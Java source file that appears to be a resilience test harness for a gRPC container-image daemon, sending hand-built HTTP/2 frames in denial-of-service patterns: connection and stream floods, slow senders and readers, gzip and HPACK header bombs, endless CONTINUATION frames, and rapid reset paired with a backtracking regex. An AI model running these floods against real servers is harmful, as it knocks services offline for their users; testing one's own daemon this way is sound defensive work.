package dev.imaged.server.grpc;

import dev.imaged.proto.images.v1.ListImagesRequest;
import io.grpc.netty.shaded.io.netty.handler.codec.http2.Http2Exception;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.zip.GZIPOutputStream;

/** Attacks on the transport, with frames that no client would send so: each method is one and returns when it is over. */
record FloodAttacks(Attackers attackers) {
    private static final String IMAGES = "/containerd.services.images.v1.Images/";
    private static final int REQUEST = 16 * 1024 * 1024;
    private static final int FRAME = 16 * 1024;

    void thousandConnections() throws Exception {
        try (Peers peers = new Peers()) {
            for (int i = 0; i < 1000; i++) {
                peers.open().greet();
            }
            TimeUnit.NANOSECONDS.sleep(attackers.nanos());
        }
    }

    /** One after the other greets, and closes before it is answered. */
    void closedConnections() throws Exception {
        attackers.loop(4, (number, round) -> {
            try (RawHttp2 peer = new RawHttp2(attackers.address())) {
                peer.greet();
            }
        });
    }

    void silentConnections() throws Exception {
        try (Peers peers = new Peers()) {
            for (int i = 0; i < 500; i++) {
                peers.open().send(Arrays.copyOf(RawHttp2.PREFACE, i % RawHttp2.PREFACE.length));
            }
            TimeUnit.NANOSECONDS.sleep(attackers.nanos());
        }
    }

    void tenThousandStreams() throws Exception {
        byte[] start = RawHttp2.prefixed(1000, new byte[10]);
        streams(IMAGES + "Get", (peer, stream) -> peer.frame(RawHttp2.DATA, 0, stream, start));
    }

    /** A message is there, and the daemon has to wait whether another comes. */
    void requestsThatDoNotEnd() throws Exception {
        byte[] whole = RawHttp2.prefixed(1000, new byte[1000]);
        streams(IMAGES + "Get", (peer, stream) -> peer.frame(RawHttp2.DATA, 0, stream, whole));
    }

    void healthWatchers() throws Exception {
        streams("/grpc.health.v1.Health/Watch", (peer, stream) -> peer.message(stream, new byte[0]));
    }

    private interface Request {
        void send(RawHttp2 peer, int stream) throws IOException;
    }

    /** Nothing of a request follows. */
    void headersOnly() throws Exception {
        streams(24, IMAGES + "Get", (peer, stream) -> {});
    }

    /** A byte of each request follows, so that none of the streams has sent nothing. */
    void firstBytesOnly() throws Exception {
        byte[] start = RawHttp2.prefixed(1000, new byte[1]);
        streams(24, IMAGES + "Get", (peer, stream) -> peer.frame(RawHttp2.DATA, 0, stream, start));
    }

    private void streams(String path, Request request) throws Exception {
        streams(10, path, request);
    }

    private void streams(int connections, String path, Request request) throws Exception {
        try (Peers peers = new Peers()) {
            for (int i = 0; i < connections; i++) {
                RawHttp2 peer = peers.open().greet();
                for (int stream = 1; stream < 2000; stream += 2) {
                    request.send(peer.call(stream, path, "application/grpc", "containerd-namespace", "fits"), stream);
                }
            }
            TimeUnit.NANOSECONDS.sleep(attackers.nanos());
        }
    }

    /** Messages of 16 KiB that are 16 MiB once they are inflated. */
    void gzipBombs() throws Exception {
        ByteArrayOutputStream bomb = new ByteArrayOutputStream();
        try (OutputStream gzip = new GZIPOutputStream(bomb)) {
            gzip.write(new byte[REQUEST - 16]);
        }
        byte[] message = RawHttp2.prefixed(bomb.size(), bomb.toByteArray());
        message[0] = 1; // compressed
        attackers.loop(8, (number, round) -> {
            try (RawHttp2 peer = new RawHttp2(attackers.address())) {
                peer.greet();
                peer.call(
                        1, IMAGES + "Create", "application/grpc", "containerd-namespace", "a", "grpc-encoding", "gzip");
                for (int from = 0; from < message.length; from += FRAME) {
                    int to = Math.min(message.length, from + FRAME);
                    int flags = to == message.length ? RawHttp2.END_STREAM : 0;
                    peer.frame(RawHttp2.DATA, flags, 1, Arrays.copyOfRange(message, from, to));
                }
                attackers.count("grpc-status " + peer.awaitEnd(1).get("grpc-status"));
            }
        });
    }

    /** Small messages one after the other, where only one is allowed. */
    void manyMessages() throws Exception {
        byte[] message = RawHttp2.prefixed(10, new byte[10]);
        attackers.loop(8, (number, round) -> {
            try (RawHttp2 peer = new RawHttp2(attackers.address())) {
                peer.greet();
                for (int stream = 1; stream < 200; stream += 2) {
                    call(peer, stream, "Get", "fits");
                    for (int i = 0; i < 100; i++) {
                        peer.frame(RawHttp2.DATA, 0, stream, message);
                    }
                }
            } catch (IOException hungUp) {
                attackers.count("hung up");
            }
        });
    }

    /** Reads one byte a second. */
    void readersOfLists() throws Exception {
        try (Peers peers = new Peers()) {
            for (int i = 0; i < 64; i++) {
                call(peers.open().greet(), 1, "List", "fits").message(1, new byte[0]);
            }
            for (long end = System.nanoTime() + attackers.nanos(); System.nanoTime() < end; TimeUnit.SECONDS.sleep(1)) {
                for (RawHttp2 peer : peers.all) {
                    peer.read();
                }
            }
        }
    }

    /** Each sends all of a request of 16 MiB but its end. */
    void sendersThatStop() throws Exception {
        try (Peers peers = new Peers()) {
            Attackers.all(32, number -> {
                try {
                    RawHttp2 peer = peers.open().greet();
                    call(peer, 1, "Create", "large");
                    attackers.count(upload(peer, REQUEST, REQUEST - FRAME));
                } catch (IOException hungUp) {
                    attackers.count("hung up");
                }
            });
            TimeUnit.NANOSECONDS.sleep(attackers.nanos());
        }
    }

    void vanishingClients() throws Exception {
        attackers.loop(4, (number, round) -> {
            try (RawHttp2 peer = new RawHttp2(attackers.address())) {
                peer.greet();
                for (int stream = 1; stream < 20; stream += 2) {
                    call(peer, stream, "List", "fits").message(stream, new byte[0]);
                }
                peer.vanish();
            }
        });
    }

    void rapidReset() throws Exception {
        byte[] slow = ListImagesRequest.newBuilder()
                .addFilters("name~=/" + "(a|b)*".repeat(100) + "/")
                .build()
                .toByteArray();
        attackers.loop(4, (number, round) -> {
            try (RawHttp2 peer = new RawHttp2(attackers.address())) {
                peer.greet();
                for (int stream = 1; stream < 200_000; stream += 2) {
                    call(peer, stream, "List", "fits")
                            .message(stream, slow)
                            .frame(RawHttp2.RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
                }
            } catch (IOException hungUp) {
                attackers.count("hung up");
            }
        });
    }

    /** Headers that are small on the wire and large once they are decoded, and headers without an end. */
    void headerBombs() throws Exception {
        byte[] indexed = new byte[4096];
        Arrays.fill(indexed, (byte) (0x80 | 62)); // the newest entry of the dynamic table (RFC 7541, 2.3.3)
        byte[] fitting = Arrays.copyOf(indexed, 15);
        attackers.loop(8, (number, round) -> {
            try (RawHttp2 peer = new RawHttp2(attackers.address())) {
                peer.greet();
                for (int stream = 1; stream < 1000; stream += 2) {
                    byte[] block = number % 2 == 0 || stream < 50 ? fitting : indexed;
                    ByteArrayOutputStream headers = new ByteArrayOutputStream();
                    headers.writeBytes(
                            RawHttp2.headers(IMAGES + "Get", "application/grpc", "containerd-namespace", "a"));
                    headers.writeBytes(new byte[] {0x40, 1, 'x', 0x7F, (byte) 0x81, 0x1E}); // a value of 4,000 bytes
                    headers.writeBytes("v".repeat(4000).getBytes(StandardCharsets.US_ASCII));
                    headers.writeBytes(block);
                    peer.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, stream, headers.toByteArray());
                }
                peer.frame(RawHttp2.HEADERS, 0, 1001, RawHttp2.headers(IMAGES + "Get", "application/grpc"));
                for (int i = 0; i < 10_000; i++) {
                    peer.frame(RawHttp2.CONTINUATION, 0, 1001, indexed);
                }
            } catch (IOException hungUp) {
                attackers.count("hung up");
            }
        });
    }

    /** Sends the first bytes of a message as fast as the daemon lets it (RFC 9113, 5.2); stops when the call ends. */
    private static String upload(RawHttp2 peer, int length, int bytes) throws IOException, Http2Exception {
        byte[] payload = new byte[FRAME];
        long connection = 65_535;
        long stream = 65_535;
        int sent = 0;
        while (sent < bytes) {
            while (Math.min(connection, stream) < FRAME) {
                RawHttp2.Frame frame = peer.next();
                if (frame.type() == RawHttp2.WINDOW_UPDATE) {
                    int credit = ByteBuffer.wrap(frame.payload()).getInt();
                    connection += frame.stream() == 0 ? credit : 0;
                    stream += frame.stream() == 0 ? 0 : credit;
                } else if (frame.type() == RawHttp2.SETTINGS && frame.flags() == 0) {
                    stream += window(frame.payload()) - 65_535;
                    peer.frame(RawHttp2.SETTINGS, RawHttp2.ACK, 0, new byte[0]);
                } else if (frame.type() == RawHttp2.HEADERS) {
                    return "grpc-status " + peer.decode(frame).get("grpc-status");
                } else if (frame.type() == RawHttp2.RST_STREAM || frame.type() == RawHttp2.GOAWAY) {
                    return "reset";
                }
            }
            byte[] data = sent == 0 ? RawHttp2.prefixed(length, new byte[FRAME - 5]) : payload;
            peer.frame(RawHttp2.DATA, 0, 1, data);
            connection -= data.length;
            stream -= data.length;
            sent += data.length;
        }
        return "taken";
    }

    /** Returns the window of a stream that settings give, 65,535 when they do not (RFC 9113, 6.5.2). */
    private static long window(byte[] settings) {
        ByteBuffer pairs = ByteBuffer.wrap(settings);
        long window = 65_535;
        while (pairs.hasRemaining()) {
            int setting = pairs.getShort();
            int value = pairs.getInt();
            window = setting == 4 ? value : window;
        }
        return window;
    }

    private static RawHttp2 call(RawHttp2 peer, int stream, String method, String namespace) throws IOException {
        return peer.call(stream, IMAGES + method, "application/grpc", "containerd-namespace", namespace);
    }

    /** Connections that are closed together. */
    private final class Peers implements AutoCloseable {
        private final List<RawHttp2> all = new ArrayList<>();

        synchronized RawHttp2 open() throws IOException {
            RawHttp2 peer = new RawHttp2(attackers.address());
            all.add(peer);
            return peer;
        }

        @Override
        public void close() throws IOException {
            for (RawHttp2 peer : all) {
                peer.close();
            }
        }
    }
}
